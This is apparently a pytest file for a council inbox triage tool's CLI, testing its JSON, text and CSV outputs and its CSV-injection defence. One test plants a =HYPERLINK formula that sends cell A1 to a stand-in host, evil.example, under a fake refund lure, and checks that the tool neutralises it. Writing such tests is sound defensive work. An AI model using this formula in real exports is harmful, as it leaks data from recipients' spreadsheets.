"""The three outputs from the same results: JSON's shape, text's lines, CSV's columns and CSV injection."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from checks.inbox.cli import main
from checks.inbox.output import neutralised

ROWS = (
    "m-1,facebook,comment,2027-03-17T11:30:00+00:00,lisa.cho,Lisa Cho,Fallen tree across the path,news,",
    "m-2,x,mention,2027-03-17T12:00:00+00:00,@HartDC,Hart District Council,Thanks Lisa,,",
    "m-3,facebook,comment,2027-03-17T12:30:00+00:00,ken.b,Ken Baxter,Lovely day in Fleet,news,",
    "m-4,facebook,comment,not-a-date,ken.b,Ken Baxter,Hello,news,",
)
HEADER = "id,network,kind,received_at,author,author_name,text,post_type,replied_at"
SETTINGS = "inbox:\n  council_accounts: ['@HartDC']\n"


@pytest.fixture
def export(write_export, tmp_path: Path) -> Path:
    (tmp_path / ".policy-check.yaml").write_text(SETTINGS, encoding="utf-8")
    return write_export(*ROWS)


def run(export: Path, fmt: str, tmp_path: Path) -> tuple[int, str]:
    output = tmp_path / f"out.{fmt}"
    status = main(["triage", "--format", fmt, "-o", str(output), str(export)])
    return status, output.read_text(encoding="utf-8")


def test_json_has_the_contracts_shape(export, tmp_path) -> None:
    status, text = run(export, "json", tmp_path)
    data = json.loads(text)
    assert status == 1  # a row had a problem
    assert set(data) == {"policy_version", "rows_read", "results", "problems"}
    assert data["rows_read"] == 4
    assert data["results"] == [
        {
            "id": "m-1",
            "line": 2,
            "labels": ["emergency"],
            "actions": ["pass to the duty officer now, at any hour"],
            "clauses": ["service-standards.crisis"],
        },
        {"id": "m-3", "line": 4, "labels": [], "actions": [], "clauses": []},
    ]
    assert data["problems"] == [{"line": 5, "message": "column 'received_at' is not an ISO 8601 date-time with offset"}]


def test_text_has_one_line_per_labelled_row_then_the_problems(export, tmp_path) -> None:
    _, text = run(export, "text", tmp_path)
    assert text.splitlines() == [
        "2: emergency pass to the duty officer now, at any hour (service-standards.crisis)",
        "5: problem: column 'received_at' is not an ISO 8601 date-time with offset",
        "4 rows read, 2 triaged, 1 labelled, 1 problem",
    ]


def test_csv_is_the_export_with_labels_actions_and_due_added(export, tmp_path) -> None:
    _, text = run(export, "csv", tmp_path)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][-3:] == ["labels", "actions", "due"]
    assert rows[0][:-3] == HEADER.split(",")
    assert [row[0] for row in rows[1:]] == ["m-1", "m-2", "m-3", "m-4"]
    assert rows[1][-3:] == ["emergency", "pass to the duty officer now, at any hour", ""]
    assert rows[2][-3:] == ["", "", ""]  # the council's own row
    assert rows[4][-2] == "not triaged: column 'received_at' is not an ISO 8601 date-time with offset"


def test_csv_gives_the_due_date_of_a_valid_request(write_export, tmp_path) -> None:
    export = write_export(
        "f-1,facebook,message,2027-03-13T11:20:00+00:00,r.h,Rachel Hughes,FOI please. r@example.org,,"
    )
    _, text = run(export, "csv", tmp_path)
    assert list(csv.reader(io.StringIO(text)))[1][-1] == "2027-04-15"


def test_a_planted_hyperlink_formula_cannot_run(write_export, tmp_path) -> None:
    planted = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
    quoted = '"' + planted.replace('"', '""') + '"'
    export = write_export(f"h-1,facebook,comment,2027-03-17T11:30:00+00:00,@attacker,{quoted},{quoted},news,")
    _, text = run(export, "csv", tmp_path)
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[5] == "'" + planted  # author_name
    assert row[6] == "'" + planted  # text
    assert row[4] == "'@attacker"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert neutralised([f"{start}1+1", "plain", ""]) == [f"'{start}1+1", "plain", ""]
